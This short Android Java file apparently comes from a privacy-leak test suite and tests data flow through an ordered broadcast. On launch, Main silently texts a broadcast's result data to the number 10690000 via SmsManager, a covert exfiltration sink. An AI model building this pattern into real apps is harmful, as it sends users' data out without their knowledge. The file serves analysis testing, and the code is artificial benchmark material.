package cn.privlens.suite.ordered_broadcast;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        sendOrderedBroadcast(new Intent(this, Middle.class), null, new BroadcastReceiver() {
            @Override
            public void onReceive(Context context, Intent intent) { SmsManager.getDefault().sendTextMessage("10690000", null, getResultData(), null, null); }
        }, null, 0, "start", null);
    }

}
